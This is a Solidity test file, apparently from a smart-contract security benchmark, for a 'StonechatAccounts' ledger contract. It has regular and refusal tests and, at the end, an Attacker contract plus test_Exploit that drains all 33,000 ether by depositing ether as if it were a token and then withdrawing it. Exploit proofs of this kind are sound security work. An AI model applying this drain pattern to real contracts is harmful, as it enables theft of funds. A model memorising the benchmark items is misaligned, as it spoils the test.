// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./StonechatAccounts.sol";

// assay-canary-9c2ff255-b06e-4e4a-a5b1-61d248b4bfb3

interface Vm {
    function warp(uint256 time) external;
    function prank(address sender) external;
    function deal(address to, uint256 amount) external;
    function expectRevert(bytes calldata reason) external;
}

/// Fails without a word whenever it is asked to move.
contract MuteToken {
    fallback() external {
        revert();
    }
}

/// Answers nothing, as some old tokens do.
contract SilentToken {
    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function transfer(address to, uint256 amount) external {
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
    }

    function transferFrom(address from, address to, uint256 amount) external {
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
    }
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant STUDIO = address(0x57D10);
    address internal constant CLIENT = address(0xC11E47);
    uint256 internal constant START = 1_643_200_000;

    StonechatAccounts internal book;
    SilentToken internal eur;
    Attacker internal thief;

    function setUp() public {
        vm.warp(START);
        book = new StonechatAccounts();
        eur = new SilentToken();
        book.list(address(eur));
        eur.mint(CLIENT, 5_000e6);
        vm.deal(CLIENT, 33_000 ether);
        vm.prank(CLIENT);
        book.depositEther{value: 33_000 ether}();
        thief = new Attacker(book);
    }

    function test_Regular() public {
        vm.prank(CLIENT);
        book.deposit(1, 2_000e6);
        vm.prank(STUDIO);
        uint256 id = book.invoice(CLIENT, 1, 1_000e6, uint64(START + 1 days));
        vm.prank(STUDIO);
        (bool ok, ) = address(book).call(abi.encodeCall(StonechatAccounts.invoice, (CLIENT, 1, 1_000e6, 0)));
        require(!ok, "late from the start");
        vm.warp(START + 3 days);
        vm.prank(CLIENT);
        book.settle(id);
        require(book.balanceOf(STUDIO, 1) == 1_001e6, "two days late");
        vm.prank(STUDIO);
        book.withdraw(1, 1_001e6);
        require(eur.balanceOf(STUDIO) == 1_001e6, "paid out");
        vm.prank(CLIENT);
        (ok, ) = address(book).call(abi.encodeCall(StonechatAccounts.settle, (id)));
        require(!ok, "settled twice");

        vm.prank(CLIENT);
        book.withdraw(0, 3 ether);
        require(CLIENT.balance == 3 ether, "ether");
        vm.prank(CLIENT);
        (ok, ) = address(book).call(abi.encodeCall(StonechatAccounts.deposit, (1, 9_000e6)));
        require(!ok, "more than there is");
        book.setOpen(1, false);
        vm.prank(CLIENT);
        (ok, ) = address(book).call(abi.encodeCall(StonechatAccounts.deposit, (1, 1e6)));
        require(!ok, "closed");
    }

    // What is refused, each from the state after setUp().

    function test_RefusesStrangersAtTheBooks() public {
        vm.prank(CLIENT);
        _expect(StonechatAccounts.OnlyBookkeeper.selector);
        book.list(address(eur));
        vm.prank(CLIENT);
        _expect(StonechatAccounts.OnlyBookkeeper.selector);
        book.setOpen(1, false);
    }

    function test_RefusesOtherPeoplesInvoices() public {
        vm.prank(STUDIO);
        uint256 id = book.invoice(CLIENT, 0, 1 ether, uint64(START));
        vm.deal(STUDIO, 5 ether);
        vm.prank(STUDIO);
        book.depositEther{value: 5 ether}();
        vm.prank(STUDIO);
        _expect(StonechatAccounts.NotYourInvoice.selector);
        book.settle(id);
        vm.prank(CLIENT);
        book.settle(id);
        vm.prank(CLIENT);
        _expect(StonechatAccounts.AlreadySettled.selector);
        book.settle(id);
    }

    function test_RefusesEmptyInvoicesAndUnlistedCurrencies() public {
        _expect(StonechatAccounts.NothingToDo.selector);
        book.invoice(CLIENT, 1, 0, uint64(START));
        _expect(StonechatAccounts.NothingToDo.selector);
        book.invoice(CLIENT, 2, 1, uint64(START));
    }

    function test_RefusesEmptyDeposits() public {
        _expect(StonechatAccounts.NothingToDo.selector);
        book.depositEther();
    }

    function test_RefusesEtherWhileItIsClosed() public {
        book.setOpen(0, false);
        vm.deal(address(this), 1 ether);
        vm.expectRevert(abi.encodeWithSelector(StonechatAccounts.CurrencyClosed.selector, uint16(0)));
        book.depositEther{value: 1 ether}();
    }

    /// This contract takes no ether.
    function test_RefusesToForgetEtherThatIsNotTaken() public {
        vm.deal(address(this), 1 ether);
        book.depositEther{value: 1 ether}();
        _expect(StonechatAccounts.EtherRefused.selector);
        book.withdraw(0, 1 ether);
    }

    function test_RefusesTokensThatFail() public {
        address mute = address(new MuteToken());
        uint16 currency = book.list(mute);
        vm.expectRevert(abi.encodeWithSelector(TokenCalls.TokenRefused.selector, mute));
        book.deposit(currency, 1);
    }

    function _expect(bytes4 reason) internal {
        vm.expectRevert(abi.encodeWithSelector(reason));
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        uint256 before = address(thief).balance;
        exploit();
        require(address(thief).balance >= before + 33_000 ether, "nothing gained");
    }

    function target() public view returns (address) {
        return address(book);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Deposits ether as if it were a token.
contract Attacker {
    StonechatAccounts internal book;

    constructor(StonechatAccounts book_) {
        book = book_;
    }

    function run() external {
        uint256 all = address(book).balance;
        book.deposit(0, all);
        book.withdraw(0, all);
    }

    receive() external payable {}
}
